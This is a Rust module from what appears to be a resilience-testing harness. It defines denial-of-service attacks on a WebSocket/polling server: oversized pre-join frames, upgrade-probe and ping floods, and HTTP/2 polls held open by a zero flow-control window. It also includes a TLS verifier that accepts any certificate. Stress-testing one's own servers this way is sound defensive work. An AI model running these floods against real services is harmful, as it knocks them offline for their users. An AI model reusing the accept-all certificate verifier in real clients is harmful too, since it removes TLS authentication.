//! Attacks on what is not charged for as a session is, or not yet: before a client has joined, while an upgrade is
//! probed, and where an answer waits for a window that never opens.

use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context as _, Result, bail};
use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use rustls::pki_types::{CertificateDer, ServerName, UnixTime};
use rustls::{DigitallySignedStruct, SignatureScheme};
use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _};
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

use crate::client::{PATH, answer, frame, open_polling, post, read_away, tcp, text, websocket};
use crate::{Attack, Field};

pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        name: "early-frames",
        title: "WebSocket sessions that say 120 KB in one frame before they have joined",
        unit: "frames",
        workers: 32,
        work: |field| Box::pin(async move { early_frame(&field).await }),
    },
    Attack {
        name: "probe-flood",
        title: "Upgrades that are probed, and pings on the probe, as many as it takes, again and again",
        unit: "probes",
        workers: 32,
        work: |field| Box::pin(async move { probe_flood(&field).await }),
    },
    Attack {
        name: "no-window",
        title: "Polls over HTTP/2 by clients that give their answers no window",
        unit: "polls",
        workers: 20,
        work: |field| Box::pin(async move { no_window(&field).await }),
    },
];

async fn early_frame(field: &Field) -> Result<()> {
    let mut stream = websocket(field, None, None, "").await?;
    stream.write_all(&text(&format!("4{}", "x".repeat(120 * 1024)))).await?;
    field.done();
    let _ = tokio::time::timeout(Duration::from_millis(500), read_away(&mut stream)).await;
    Ok(())
}

async fn probe_flood(field: &Field) -> Result<()> {
    let mut polling = tcp(field, None).await?;
    let sid = open_polling(&mut polling).await?;
    // a session that is over is a place less in use, and nobody else is to suffer for that
    for _ in 0..20 {
        let mut stream = websocket(field, Some(&sid), None, "").await?;
        stream.write_all(&text("2probe")).await?;
        // (one that says something else is closed at once)
        let pings = frame(0x89, &[0; 125]).repeat(60);
        stream.write_all(&pings).await?;
        field.done();
        let _ = tokio::time::timeout(Duration::from_millis(20), read_away(&mut stream)).await;
    }
    polling.write_all(post(&sid, "1").as_bytes()).await?;
    answer(&mut polling).await?;
    Ok(())
}

/// Polls that one connection has waiting for a window.
const POLLS: u32 = 50;

async fn no_window(field: &Field) -> Result<()> {
    let mut opening = tls(field, b"http/1.1").await?;
    let mut sids = Vec::new();
    for _ in 0..POLLS {
        let opened = ask(&mut opening, "GET", "", "").await?;
        let sid = opened.split("\"sid\":\"").nth(1).and_then(|rest| rest.split('"').next());
        let sid = sid.context("refused")?.to_owned();
        ask(&mut opening, "POST", &format!("&sid={sid}"), "40").await?;
        sids.push(sid);
    }
    let mut stream = tls(field, b"h2").await?;
    // the preface, and SETTINGS_INITIAL_WINDOW_SIZE 0
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    stream.write_all(&h2_frame(4, 0, 0, &[0, 4, 0, 0, 0, 0])).await?;
    for (sid, at) in sids.iter().zip(0..) {
        let path = format!("{PATH}polling&sid={sid}");
        // ":method: GET" and ":scheme: https" by their numbers, ":path" and ":authority" in letters
        let head = [&[0x82, 0x87, 0x04][..], &h2_text(&path), &[0x01], &h2_text("localhost")];
        // END_STREAM and END_HEADERS
        stream.write_all(&h2_frame(1, 0x05, 2 * at + 1, &head.concat())).await?;
        field.done();
    }
    let result = read_away(&mut stream).await;
    if field.is_on() { result } else { Ok(()) }
}

fn h2_frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = (payload.len() as u32).to_be_bytes();
    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Of fewer than 127 bytes, as they are.
fn h2_text(text: &str) -> Vec<u8> {
    [&[text.len() as u8], text.as_bytes()].concat()
}

/// A request of a session by polling; gives the body.
async fn ask(
    stream: &mut (impl AsyncRead + tokio::io::AsyncWrite + Unpin),
    method: &str,
    sid: &str,
    body: &str,
) -> Result<String> {
    let length = body.len();
    let request = format!(
        "{method} {PATH}polling{sid} HTTP/1.1\r\nHost: localhost\r\nContent-Length: {length}\r\n\r\n{body}"
    );
    stream.write_all(request.as_bytes()).await?;
    let mut bytes = Vec::new();
    loop {
        let text = String::from_utf8_lossy(&bytes).into_owned();
        if let Some((head, body)) = text.split_once("\r\n\r\n") {
            let length = head.lines().find_map(|line| {
                let (name, value) = line.split_once(':')?;
                name.eq_ignore_ascii_case("content-length").then_some(value.trim())
            });
            if body.len() >= length.unwrap_or("0").parse()? {
                return Ok(body.to_owned());
            }
        }
        if stream.read_buf(&mut bytes).await? == 0 {
            bail!("no answer");
        }
    }
}

async fn tls(field: &Field, protocol: &[u8]) -> Result<TlsStream<tokio::net::TcpStream>> {
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let mut config = rustls::ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()?
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(Anybody))
        .with_no_client_auth();
    config.alpn_protocols = vec![protocol.to_vec()];
    let stream = tcp(field, None).await?;
    let connector = TlsConnector::from(Arc::new(config));
    Ok(connector.connect("localhost".try_into()?, stream).await?)
}

/// An attacker does not care whom he attacks.
#[derive(Debug)]
struct Anybody;

impl ServerCertVerifier for Anybody {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        rustls::crypto::ring::default_provider()
            .signature_verification_algorithms
            .supported_schemes()
    }
}
